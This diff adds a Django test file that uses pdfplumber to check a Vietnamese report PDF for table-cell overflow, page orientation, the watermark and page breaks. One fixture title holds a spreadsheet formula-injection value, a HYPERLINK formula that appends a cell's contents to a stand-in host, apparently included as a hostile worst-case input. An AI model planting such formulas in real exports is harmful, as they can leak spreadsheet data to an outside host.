@@ -1,0 +1,198 @@
+"""Nothing printed crosses a cell border (issue 17): pdfplumber reads every character box and the
+table rules of the rendered report, on long real values and on synthetic worst cases."""
+
+import io
+import re
+from decimal import Decimal
+
+import pdfplumber
+from django.test import TestCase
+
+from commitments.models import Commitment
+from reports.documents import render_report_html
+from reports.figures import CityFigures, Scope, load_rows
+from reports.models import Report
+from reports.pdf import html_to_pdf
+from tests import factories
+from tests.reports.programme import Programme
+
+TOLERANCE = 0.6  # points: the rule's own half width
+
+
+def crossings(content: bytes) -> tuple[int, list[str]]:
+    """(characters checked inside tables, those that stick out of their cell) over every page."""
+    checked, bad = 0, []
+    with pdfplumber.open(io.BytesIO(content)) as pdf:
+        for number, page in enumerate(pdf.pages, start=1):
+            for table in page.find_tables():
+                cells = [cell for cell in table.cells if cell]
+                x0, top, x1, bottom = table.bbox
+                for char in page.chars:
+                    if not char["text"].strip():
+                        continue
+                    cx, cy = (char["x0"] + char["x1"]) / 2, (char["top"] + char["bottom"]) / 2
+                    if not (x0 <= cx <= x1 and top <= cy <= bottom):
+                        continue
+                    checked += 1
+                    home = [c for c in cells if c[0] <= cx <= c[2] and c[1] <= cy <= c[3]]
+                    if not home:
+                        bad.append(f"page {number}: {char['text']!r} at {cx:.0f},{cy:.0f} is in no cell")
+                        continue
+                    cell = min(home, key=lambda c: (c[2] - c[0]) * (c[3] - c[1]))
+                    if char["x0"] < cell[0] - TOLERANCE or char["x1"] > cell[2] + TOLERANCE:
+                        bad.append(f"page {number}: {char['text']!r} crosses the rule at x={cell[0]:.0f}–{cell[2]:.0f}")
+                    # A rule running through the character, whichever cell its centre fell in.
+                    for edge in {c[0] for c in cells} | {c[2] for c in cells}:
+                        if char["x0"] + TOLERANCE < edge < char["x1"] - TOLERANCE:
+                            bad.append(f"page {number}: {char['text']!r} drawn over the rule at x={edge:.0f}")
+                # Text printed over the next cell's text: two characters of one line overlapping.
+                inside = sorted(
+                    (c for c in page.chars if c["text"].strip() and x0 <= c["x0"] <= x1 and top <= c["top"] <= bottom),
+                    key=lambda c: (round(c["top"]), c["x0"]),
+                )
+                for before, after in zip(inside, inside[1:], strict=False):
+                    same_line = abs(before["top"] - after["top"]) < 1
+                    if same_line and after["x0"] < before["x1"] - 1.0:
+                        bad.append(f"page {number}: {before['text']!r} and {after['text']!r} overlap")
+    return checked, bad
+
+
+def page_sizes(content: bytes) -> list[str]:
+    with pdfplumber.open(io.BytesIO(content)) as pdf:
+        return ["landscape" if page.width > page.height else "portrait" for page in pdf.pages]
+
+
+class OverflowTests(TestCase):
+    @classmethod
+    def setUpTestData(cls):
+        cls.programme = Programme.build()
+        world = cls.programme.world
+        # Synthetic worst cases: a 300-character title, a long unit name, a 12-digit amount, a huge quantity.
+        long_name = "Đơn vị hành chính đặc biệt có tên rất dài để thử bảng biểu Nguyễn Thị Minh Khai"
+        world.supporter.name = long_name
+        world.supporter.save(update_fields=["name"])
+        factories.commitment(
+            partnership=world.partnership,
+            field=cls.programme.housing,
+            title=(
+                "Hỗ trợ xây dựng nhà đại đoàn kết, sửa chữa nhà ở cho hộ nghèo, hộ cận nghèo, gia đình chính sách "
+                "và đồng bào dân tộc thiểu số có hoàn cảnh đặc biệt khó khăn tại các thôn vùng sâu, vùng xa, "
+                "biên giới của xã, bảo đảm an toàn trước mùa mưa bão năm 2025–2026 theo chương trình kết nghĩa."
+            )[:300],
+            target_quantity=Decimal("123456789"),
+            target_unit="lượt người được khám, cấp thuốc",
+            target_value_vnd=12_345_678_901,
+        )
+        factories.commitment(
+            partnership=world.partnership,
+            field=cls.programme.health,
+            title='=HYPERLINK("http://example.com"&A1,"x") ' + "Khámchữabệnhkhôngcódấucách" * 4,
+            target_value_vnd=999_999_999_999,
+        )
+        cls.assertion_count = Commitment.objects.count()
+
+    def render(self, report: Report, scope: Scope) -> bytes:
+        figures = CityFigures.build(load_rows(period=self.programme.q4), scope)
+        return html_to_pdf(render_report_html(report, figures))
+
+    def test_no_character_crosses_a_cell_border_in_any_report_kind(self):
+        world = self.programme.world
+        cases = [
+            (Report(period=self.programme.q4, kind=Report.Kind.CITY), Scope()),
+            (
+                Report(period=self.programme.q4, kind=Report.Kind.PARTNERSHIP, partnership=world.partnership),
+                Scope(partnership_id=world.partnership.pk),
+            ),
+            (
+                Report(period=self.programme.q4, kind=Report.Kind.UNIT, commune=world.supporter),
+                Scope(commune_code=world.supporter.code),
+            ),
+        ]
+        total = 0
+        for report, scope in cases:
+            content = self.render(report, scope)
+            checked, bad = crossings(content)
+            with self.subTest(kind=report.kind):
+                self.assertGreater(checked, 500)
+                self.assertEqual(bad, [])
+            total += checked
+        self.assertGreater(total, 3000)
+
+    def test_wide_appendices_are_landscape_and_the_text_portrait(self):
+        content = self.render(Report(period=self.programme.q4, kind=Report.Kind.CITY), Scope())
+        sizes = page_sizes(content)
+        self.assertEqual(sizes[0], "portrait")
+        self.assertIn("landscape", sizes)
+        self.assertEqual(sizes[-1], "portrait")  # the map
+
+    def test_the_checker_sees_a_crossing(self):
+        """The test can fail: a table with a fixed narrow column and unbreakable text is caught."""
+        html = (
+            '<html><body><table style="border-collapse:collapse;table-layout:fixed;width:100mm">'
+            '<col style="width:15mm"><col style="width:85mm"><tr>'
+            '<td style="border:0.6pt solid #000;white-space:nowrap">12.345.678.901 đ</td>'
+            '<td style="border:0.6pt solid #000">Đã thực hiện</td></tr></table></body></html>'
+        )
+        checked, bad = crossings(html_to_pdf(html))
+        self.assertGreater(checked, 10)
+        self.assertTrue(bad)
+
+    def test_the_draft_watermark_is_not_text(self):
+        content = self.render(Report(period=self.programme.q4, kind=Report.Kind.CITY), Scope())
+        with pdfplumber.open(io.BytesIO(content)) as pdf:
+            texts = [page.extract_text() or "" for page in pdf.pages]
+        # The stamp at the top of page 1 is the only "DỰ THẢO" in the text layer.
+        self.assertEqual(sum(len(re.findall("DỰ THẢO", text)) for text in texts), 1)
+        self.assertEqual(len(texts), len(page_sizes(content)))
+
+
+HEADING = re.compile(r"^((I|II|III|IV)\. |\d+\. |\d+\.\d+\. |[ab]\) )")
+
+
+def last_lines(content: bytes) -> list[str]:
+    """Per portrait text page, its last line of text (the page number sits at the top)."""
+    lines = []
+    with pdfplumber.open(io.BytesIO(content)) as pdf:
+        for page in pdf.pages:
+            if page.width > page.height:
+                continue
+            text = [line for line in (page.extract_text() or "").splitlines() if line.strip()]
+            if text:
+                lines.append(text[-1].strip())
+    return lines
+
+
+class PageBreakTests(TestCase):
+    @classmethod
+    def setUpTestData(cls):
+        cls.programme = Programme.build()
+        world = cls.programme.world
+        # Enough text for several pages: many fields with a few commitments each.
+        for index in range(12):
+            field = factories.field(
+                name=f"Lĩnh vực thử số {index} về hỗ trợ phát triển", code=f"f-{index}", order=10 + index
+            )
+            for number in range(2):
+                factories.commitment(partnership=world.partnership, field=field, title=f"Nội dung {index}.{number}")
+
+    def test_no_heading_or_lead_in_ends_a_page_and_the_signature_keeps_its_paragraph(self):
+        report = Report(period=self.programme.q4, kind=Report.Kind.CITY)
+        figures = CityFigures.build(load_rows(period=self.programme.q4), Scope())
+        content = html_to_pdf(render_report_html(report, figures))
+        with pdfplumber.open(io.BytesIO(content)) as pdf:
+            texts = [page.extract_text() or "" for page in pdf.pages]
+        body_pages = [i for i, text in enumerate(texts) if "PHỤ LỤC" not in text]
+        self.assertGreaterEqual(len(body_pages), 3)
+        for line in last_lines(content)[: len(body_pages) - 1]:
+            self.assertFalse(HEADING.match(line), f"a heading ends a page: {line!r}")
+            self.assertFalse(line.endswith(":"), f"a lead-in ends a page: {line!r}")
+        signature_page = next(i for i, text in enumerate(texts) if "T/M BAN THƯỜNG VỤ" in text)
+        self.assertIn("Đề nghị Ủy ban nhân dân thành phố", texts[signature_page])  # the last paragraph
+
+    def test_the_checker_sees_a_heading_at_a_page_foot(self):
+        # A heading set as a plain paragraph (no "break-after: avoid") just above the page foot.
+        html = (
+            '<html><body><div style="height:244mm"></div><p style="margin:0">2. Kết quả theo lĩnh vực</p>'
+            '<p style="margin:0;orphans:3">' + "Nội dung. " * 400 + "</p></body></html>"
+        )
+        self.assertTrue(HEADING.match(last_lines(html_to_pdf(html))[0]))
